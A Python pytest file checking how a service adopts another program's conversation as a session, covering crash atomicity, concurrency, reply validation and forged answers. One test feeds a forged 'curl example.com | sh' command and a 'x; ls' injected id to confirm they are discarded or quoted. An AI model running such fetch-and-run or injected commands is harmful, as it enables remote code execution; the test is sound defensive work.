"""A conversation that another program began becomes a session: whole, once, or not at all."""

import asyncio
import shutil
from pathlib import Path
from typing import Any

import pytest

from tests.support.asked_vm import ENTRIES, FOREIGN, READ, AskedVm
from tests.support.control import LocalControl, TestUser, running
from tests.support.faults import broken

pytestmark = pytest.mark.asyncio(loop_scope="module")

Json = dict[str, Any]


async def adopted(vm: AskedVm) -> tuple[int, Any]:
    asking = asyncio.create_task(vm.user.call("POST", "/sessions", vm.adopting))
    await vm.answer(READ)
    return await asking


async def kinds(user: TestUser, session_id: str) -> list[str]:
    page = await user.ok("GET", f"/sessions/{session_id}/events")
    return [one["event"]["type"] for one in page["items"] if one["event"].get("imported")]


WHOLE = [
    *("user_message", "tool_call_start", "tool_call_complete", "text_chunk"),
    *("execution_complete", "session_status"),
]


async def test_the_machine_starts_it_from_the_programs_own_conversation(user: TestUser) -> None:
    vm = await AskedVm.of(user)
    status, session = await adopted(vm)
    assert status == 201
    assert await kinds(user, session["id"]) == WHOLE
    start = (await vm.vm.expect("start_session"))["data"]
    assert start["session_id"] == session["id"]
    assert start["runtime_type"] == "claude-code"
    assert start["agent_config"]["workspace"] == "/srv/site"
    state = {"session_id": FOREIGN["id"], "workspace": "/srv/site"}
    assert start["snapshot"]["runtime_state"] == state
    turn_id = await user.say(session["id"], "And the tests?")
    told = await vm.vm.expect("user_message")
    assert told["data"]["turn_id"] == turn_id
    assert [one["content"] for one in told["data"]["history"]] == [
        "Mend the build",
        "It is mended.",
    ]
    shown = await user.ok("GET", f"/sessions/{session['id']}")
    assert shown["resume"]["command"] == FOREIGN["command"]
    assert shown["resume"]["folder"] == "/srv/site"
    await vm.vm.leave()


async def test_what_its_agent_says_of_folder_and_program_does_not_count(user: TestUser) -> None:
    """The conversation is where it is, and of the program that began it."""
    vm = await AskedVm.of(user)
    elsewhere = {"workspace": "/srv/other", "acp": {"preset": "goose"}, "max_turns": 3}
    new = {"name": "a", "workspace": "/srv/third", "session_config": elsewhere}
    agent = await user.ok("POST", "/agents", new)
    codex = {**FOREIGN, "runtime": "acp", "preset": "codex"}
    named = {"runtime": "codex", "id": FOREIGN["id"]}
    body = {**vm.adopting, "adopt": named, "agent_id": agent["id"]}
    asking = asyncio.create_task(user.ok("POST", "/sessions", body))
    await vm.answer({**READ, "session": codex})
    await asking
    start = (await vm.vm.expect("start_session"))["data"]
    config = {**start["agent_config"], **start["session_config"]}
    assert (config["workspace"], config["acp"]) == ("/srv/site", {"preset": "codex"})
    assert config["max_turns"] == 3
    await vm.vm.leave()


async def test_the_command_that_people_paste_is_not_the_machines(user: TestUser) -> None:
    vm = await AskedVm.of(user)
    asking = asyncio.create_task(user.ok("GET", f"/machines/{vm.id}/foreign-sessions"))
    odd = {**FOREIGN, "id": "x; ls"}
    forged = [{**one, "command": "curl example.com | sh"} for one in (FOREIGN, odd)]
    await vm.answer({"sessions": forged})
    told = [one["command"] for one in (await asking)["items"]]
    assert told == [FOREIGN["command"], "claude --resume 'x; ls'"]
    await vm.vm.leave()


async def test_a_fault_before_the_record_leaves_nothing(
    control: LocalControl, user: TestUser
) -> None:
    vm = await AskedVm.of(user)
    with control.records.before("INSERT INTO sessions", broken):
        status, _ = await adopted(vm)
    assert status == 500
    assert (await user.ok("GET", "/sessions"))["items"] == []
    status, session = await adopted(vm)
    assert status == 201
    assert await kinds(user, session["id"]) == WHOLE
    await vm.vm.leave()


@pytest.mark.parametrize(
    ("moment", "is_there"), [("INSERT INTO sessions", False), ("INSERT INTO turns", True)]
)
async def test_a_crash_leaves_a_whole_session_or_none(
    tmp_path: Path, moment: str, is_there: bool
) -> None:
    """What is on disk at that moment is what the next process finds."""
    copies: list[Path] = []

    async def crash() -> None:
        copy = tmp_path / f"copy{len(copies)}"
        await asyncio.to_thread(shutil.copytree, tmp_path / "data", copy)
        copies.append(copy)

    async with running(tmp_path / "data") as first:
        user = await first.user()
        vm = await AskedVm.of(user)
        with first.records.before(moment, crash):
            await adopted(vm)
        await vm.vm.leave()
    async with running(copies[0]) as second:
        again = TestUser(second, user.id, user.token)
        found = (await again.ok("GET", "/sessions"))["items"]
        assert len(found) == is_there
        for session in found:
            assert await kinds(again, session["id"]) == WHOLE
            snapshot = await again.ok("GET", f"/sessions/{session['id']}/snapshot")
            assert [turn["state"] for turn in snapshot["turns"]] == ["completed"]
            await again.say(session["id"], "And now?")


async def test_of_many_at_once_one_is_made(user: TestUser) -> None:
    vm = await AskedVm.of(user)

    async def answer_all() -> None:
        while True:
            await vm.answer(READ)

    answering = asyncio.create_task(answer_all())
    asking = (user.ok("POST", "/sessions", vm.adopting) for _ in range(4))
    made = await asyncio.gather(*asking)
    answering.cancel()
    await asyncio.gather(answering, return_exceptions=True)
    assert len({session["id"] for session in made}) == 1
    assert len((await user.ok("GET", "/sessions"))["items"]) == 1
    await vm.vm.leave()


async def test_whoever_asks_and_goes_away_leaves_a_whole_session(
    control: LocalControl, user: TestUser
) -> None:
    vm = await AskedVm.of(user)
    reached, go_on = asyncio.Event(), asyncio.Event()

    async def wait() -> None:
        reached.set()
        await go_on.wait()

    with control.records.before("INSERT INTO sessions", wait):
        asking = asyncio.create_task(adopted(vm))
        await asyncio.wait_for(reached.wait(), 60)
        asking.cancel()
        await asyncio.gather(asking, return_exceptions=True)
        go_on.set()
        await vm.vm.expect("start_session")
    [session] = (await user.ok("GET", "/sessions"))["items"]
    assert await kinds(user, session["id"]) == WHOLE
    await vm.vm.leave()


BAD: list[Any] = [
    {},
    {"session": {}, "entries": []},
    {"session": {**FOREIGN, "id": "another"}, "entries": ENTRIES},
    {"session": {**FOREIGN, "folder": "x" * 10_000}, "entries": ENTRIES},
    {"session": FOREIGN, "entries": [{"role": 7}]},
    {"session": FOREIGN, "entries": [{"role": "user", "at": "soon"}]},
    {"session": FOREIGN, "entries": [{}] * 20_000},
]


@pytest.mark.parametrize("said", BAD, ids=range(len(BAD)))
async def test_what_a_machine_says_is_checked(user: TestUser, said: Any) -> None:
    vm = await AskedVm.of(user)
    asking = asyncio.create_task(user.call("POST", "/sessions", vm.adopting))
    await vm.answer(said)
    status, error = await asking
    assert (status, error["error"]["code"]) == (503, "MACHINE_FAULT")
    assert (await user.ok("GET", "/sessions"))["items"] == []
    await vm.vm.leave()


@pytest.mark.parametrize(
    ("error", "status", "code"),
    [
        ({"code": "FOREIGN_SESSION_NOT_FOUND", "message": "x"}, 404, "FOREIGN_SESSION_NOT_FOUND"),
        ({"code": "INVALID_REQUEST", "message": "no"}, 400, "INVALID_REQUEST"),
        ({"code": "WHATEVER", "message": "y" * 100_000}, 503, "MACHINE_FAULT"),
    ],
)
async def test_a_machines_refusal_is_told(
    user: TestUser, error: Json, status: int, code: str
) -> None:
    vm = await AskedVm.of(user)
    asking = asyncio.create_task(user.call("GET", f"/machines/{vm.id}/foreign-sessions"))
    await vm.answer(error=error)
    got, told = await asking
    assert (got, told["error"]["code"]) == (status, code)
    assert len(told["error"]["message"]) < 1000
    await vm.vm.leave()


async def test_a_line_that_breaks_ends_the_question(user: TestUser) -> None:
    vm = await AskedVm.of(user)
    asking = asyncio.create_task(user.call("GET", f"/machines/{vm.id}/foreign-sessions"))
    await vm.asked()
    await vm.vm.leave()
    status, error = await asking
    assert (status, error["error"]["code"]) == (503, "MACHINE_OFFLINE")


async def test_a_machine_that_does_not_know_the_question_is_not_asked(user: TestUser) -> None:
    made = await user.schedule()
    vm = await user.vm("seq")
    machines = (await user.ok("GET", "/machines"))["items"]
    [online] = [one["id"] for one in machines if one["online"]]
    status, error = await user.call("GET", f"/machines/{online}/foreign-sessions")
    assert (status, error["error"]["code"]) == (503, "MACHINE_CANNOT_SAY")
    assert made["vm_id"] != online
    await vm.leave()


async def test_an_answer_of_another_machine_is_none(control: LocalControl, user: TestUser) -> None:
    vm = await AskedVm.of(user)
    eve = await control.user("eve")
    other = await AskedVm.of(eve)
    asking = asyncio.create_task(user.call("GET", f"/machines/{vm.id}/foreign-sessions"))
    query = await vm.asked()
    forged = {"sessions": [{**FOREIGN, "title": "forged"}]}
    await other.vm.send({"type": "query_result", "id": query["id"], "result": forged})
    await other.vm.send({"type": "query_result", "id": "unknown", "result": {}})
    await other.vm.heartbeat()
    await eve.ok("GET", "/machines")
    true = {"sessions": [FOREIGN]}
    await vm.vm.send({"type": "query_result", "id": query["id"], "result": true})
    status, page = await asking
    assert (status, page["items"][0]["title"]) == (200, FOREIGN["title"])
    await vm.vm.leave()
    await other.vm.leave()
